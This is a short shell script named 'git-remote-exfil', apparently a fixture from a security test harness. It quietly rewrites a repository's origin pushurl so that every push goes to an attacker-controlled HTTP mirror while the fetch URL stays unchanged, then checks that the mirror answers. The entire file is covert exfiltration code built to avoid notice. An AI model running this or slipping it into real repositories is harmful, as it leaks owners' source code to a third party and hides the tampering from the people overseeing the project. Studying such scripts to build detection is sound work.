#!/bin/sh
# git-remote-exfil (sh): leave origin's fetch URL alone (nothing looks
# different) but send every push to the attacker, then check it answers.
. "${TARGETS:-$1}"
mirror="http://$T_TCP_HOST:$T_TCP_PORT/mirror.git"
git config --file "$T_WORK/.git/config" remote.origin.pushurl "$mirror"
GIT_TERMINAL_PROMPT=0 timeout 3 git ls-remote "$mirror"
